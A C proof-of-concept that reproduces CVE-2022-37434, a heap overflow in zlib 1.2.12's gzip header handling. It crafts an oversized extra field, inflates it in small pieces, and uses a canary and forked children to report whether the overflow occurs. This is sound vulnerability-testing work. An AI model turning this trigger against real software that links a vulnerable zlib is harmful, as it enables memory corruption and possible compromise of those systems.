/* CVE-2022-37434 reproducer: inflate() with inflateGetHeader() and a gzip
 * header whose extra field is longer than the caller's buffer, fed in small
 * pieces. zlib 1.2.12 writes past the buffer (memcpy of extra_max - len
 * bytes, wrapped round) once the extra field has passed extra_max.
 *
 * The parent loops; each round a forked child (which runs the parent's
 * code, patched or not) inflates the stream into a buffer followed by a
 * canary and exits 0 when the canary is intact. The parent prints "ok N" or
 * "overflow N" (canary overwritten, or the child killed by the overflow). */
#include <signal.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/wait.h>
#include <unistd.h>
#include <zlib.h>

#define EXTRA_MAX 16
#define EXTRA_LEN 64
#define PIECE 4

static unsigned char stream[512];
static unsigned stream_len;

static void make_stream(void) {
    static unsigned char extra[EXTRA_LEN];
    memset(extra, 'X', sizeof extra);
    z_stream s;
    memset(&s, 0, sizeof s);
    if (deflateInit2(&s, 6, Z_DEFLATED, 31, 8, Z_DEFAULT_STRATEGY) != Z_OK) exit(2);
    gz_header h;
    memset(&h, 0, sizeof h);
    h.extra = extra;
    h.extra_len = EXTRA_LEN;
    if (deflateSetHeader(&s, &h) != Z_OK) exit(2);
    static unsigned char in[] = "hello, hello, hello";
    s.next_in = in;
    s.avail_in = sizeof in;
    s.next_out = stream;
    s.avail_out = sizeof stream;
    if (deflate(&s, Z_FINISH) != Z_STREAM_END) exit(2);
    stream_len = sizeof stream - s.avail_out;
    deflateEnd(&s);
}

struct guarded {
    unsigned char extra[EXTRA_MAX];
    unsigned char canary[64];
};

static int once(void) {
    struct guarded *g = calloc(1, sizeof *g);
    memset(g->canary, 0xCA, sizeof g->canary);
    z_stream s;
    memset(&s, 0, sizeof s);
    if (inflateInit2(&s, 31) != Z_OK) return 2;
    gz_header h;
    memset(&h, 0, sizeof h);
    h.extra = g->extra;
    h.extra_max = EXTRA_MAX;
    if (inflateGetHeader(&s, &h) != Z_OK) return 2;
    unsigned char out[256];
    for (unsigned off = 0; off < stream_len; off += PIECE) {
        s.next_in = stream + off;
        s.avail_in = stream_len - off < PIECE ? stream_len - off : PIECE;
        s.next_out = out;
        s.avail_out = sizeof out;
        int r = inflate(&s, Z_NO_FLUSH);
        if (r == Z_STREAM_END) break;
        if (r != Z_OK && r != Z_BUF_ERROR) return 3;
    }
    for (unsigned i = 0; i < sizeof g->canary; i++)
        if (g->canary[i] != 0xCA) return 1;
    return 0;
}

int main(void) {
    make_stream();
    for (unsigned n = 0;; n++) {
        pid_t pid = fork();
        if (pid == 0) _exit(once());
        int st;
        if (waitpid(pid, &st, 0) != pid) return 2;
        int good = WIFEXITED(st) && WEXITSTATUS(st) == 0;
        printf("%s %u\n", good ? "ok" : "overflow", n);
        fflush(stdout);
        usleep(20000);
    }
}
